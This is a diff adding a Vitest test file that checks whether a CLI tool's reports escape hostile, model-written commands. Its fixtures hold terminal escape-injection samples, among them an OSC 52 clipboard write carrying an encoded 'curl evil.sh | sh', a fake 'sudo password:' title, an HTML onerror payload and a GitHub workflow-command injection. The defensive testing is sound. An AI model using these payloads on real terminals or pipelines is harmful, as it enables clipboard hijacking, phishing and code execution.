@@ -1,0 +1,99 @@
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { makeSandbox, runCordon, type Sandbox } from '../../../../test/support/cli.js';
+import { markdownCell, markdownText } from '../../src/output/markdown.js';
+import { displayName, terminalLines, terminalText } from '../../src/output/terminal.js';
+import { workflowCommand } from '../../src/envelope/formats/github.js';
+import { xmlText } from '../../src/envelope/formats/junit.js';
+import { call, samples } from '../telemetry/reduce/helpers.js';
+
+// Issue 29: a model-controlled command reaches `cordon reduce` and `cordon analyze` (text and
+// Markdown) escaped, whatever control sequence it carries.
+
+const T = 1_800_000_000_000;
+/** OSC 52 clipboard write, a window-title change, a clear screen, and a C1 CSI (8-bit terminals). */
+const HOSTILE = {
+  clipboard: "printf 'x\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007'",
+  title: "echo '\u001b]0;sudo password:\u0007'",
+  clear: "echo '\u001b[2J\u001b[H'",
+  c1: 'echo \u009b2J',
+};
+/** Raw HTML, a link and a table break for the Markdown report. */
+const MARKUP = ['echo <img src=x onerror=alert(1)>', 'echo [click](https://evil.example)', 'a | b\n# heading'];
+
+/** No ESC, BEL, C1 control or line break inside a printed line. */
+// eslint-disable-next-line no-control-regex
+const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;
+
+describe('the terminal escaping', () => {
+  it('a GitHub workflow command stays one line (no injected command); JUnit XML holds no control a parser refuses', () => {
+    for (const output of Object.values(HOSTILE)) {
+      const line = workflowCommand('error', { title: 'cordon: verifier_failed' }, `verifier failed\n${output}\r\n::set-output name=x::y`);
+      expect(line.split(/[\r\n]/)).toHaveLength(1);
+      expect(line).not.toContain('\n::');
+      expect(xmlText(output)).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/);
+    }
+  });
+
+  it('escapes every control, keeps ordinary text and line breaks of whole reports', () => {
+    expect(terminalText(HOSTILE.clipboard)).toBe("printf 'x\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007'");
+    expect(terminalText(HOSTILE.title)).toBe("echo '\\u001b]0;sudo password:\\u0007'");
+    expect(terminalText(HOSTILE.clear)).toBe("echo '\\u001b[2J\\u001b[H'");
+    expect(terminalText(HOSTILE.c1)).toBe('echo \\u009b2J');
+    expect(terminalText('report\u202etxt.exe')).toBe('report\\u202etxt.exe');
+    expect(terminalText('npm test -- --grep "a b"')).toBe('npm test -- --grep "a b"');
+    expect(terminalLines('one\n\u001b[2Jtwo\r\nthree')).toBe('one\n\\u001b[2Jtwo\nthree');
+    expect(terminalLines('FAIL\ttest_a\u0007\rover')).toBe('FAIL\ttest_a\\u0007\\u000dover');
+    expect(displayName('a"b')).toBe('"a\\"b"');
+    expect(displayName('plain')).toBe('plain');
+  });
+
+  it('escapes Markdown markup, raw HTML and table breaks so they render as text', () => {
+    expect(markdownCell(MARKUP[0]!)).toBe('echo \\<img src=x onerror=alert(1)\\>');
+    expect(markdownCell(MARKUP[1]!)).toBe('echo \\[click\\](https://evil.example)');
+    // The escape of the line break is itself escaped, so it renders as the text `\u000a`.
+    expect(markdownCell(MARKUP[2]!)).toBe('a \\| b\\\\u000a\\# heading');
+    expect(markdownText('- item')).toBe('\\- item');
+    expect(markdownText('1. item')).toBe('1\\. item');
+    expect(markdownText('`code` *em* &amp; @team')).toBe('\\`code\\` \\*em\\* \\&amp; \\@team');
+    expect(markdownCell('pytest -q')).toBe('pytest -q');
+  });
+});
+
+let sandbox: Sandbox;
+beforeEach(() => {
+  sandbox = makeSandbox('cordon-hostile-text-');
+  const commands = [...Object.values(HOSTILE), ...MARKUP];
+  commands.forEach((command, i) => call(sandbox.dataDir, 'evil-session', `k${i}`, T + 1000 * i, T + 1000 * i + 500, { command }));
+  call(sandbox.dataDir, 'evil-session', 'tool', T + 20_000, T + 20_500, { tool_name: 'Bash\u001b]0;x\u0007', command: 'ls' });
+  samples(sandbox.dataDir, 'evil-session', Array.from({ length: 100 }, (_, i) => ({ t: T + 250 * i, mb: 100 })));
+});
+afterEach(() => sandbox.cleanup());
+
+describe('reduce and analyze print what an agent wrote escaped', () => {
+  it('cordon reduce (the fast route and oclif) escapes commands and tool names', async () => {
+    for (const args of [['reduce', '--session', 'evil-session'], ['reduce', '--session', 'evil-session', '--db', `${sandbox.dataDir}/other.sqlite3`]]) {
+      const r = await runCordon(args, { env: sandbox.env });
+      expect(r.exitCode, r.stderr).toBe(0);
+      for (const line of r.stdout.split('\n')) expect(line).not.toMatch(CONTROL);
+      expect(r.stdout).toContain("printf 'x\\u001b]52;c;");
+      expect(r.stdout).toContain('\\u009b2J');
+      expect(r.stdout).toContain('Bash\\u001b]0;x\\u0007');
+    }
+  }, 120_000);
+
+  it('cordon analyze text escapes for the terminal, --format md for Markdown', async () => {
+    const text = await runCordon(['analyze', '--session', 'evil-session'], { env: sandbox.env });
+    expect(text.exitCode, text.stderr).toBe(0);
+    for (const line of text.stdout.split('\n')) expect(line).not.toMatch(CONTROL);
+    expect(text.stdout).toContain("printf 'x\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007'");
+    const md = await runCordon(['analyze', '--session', 'evil-session', '--format', 'md'], { env: sandbox.env });
+    expect(md.exitCode, md.stderr).toBe(0);
+    expect(md.stdout).not.toContain('<img');
+    expect(md.stdout).not.toContain('](https://evil');
+    for (const line of md.stdout.split('\n')) expect(line).not.toMatch(CONTROL);
+    // Every table row still has its column count: no cell was split by a `|` or a line break.
+    for (const line of md.stdout.split('\n').filter((l) => l.startsWith('| ') && l.includes('Bash'))) {
+      expect(line.split(/(?<!\\)\|/).length).toBeGreaterThan(2);
+    }
+  }, 120_000);
+});
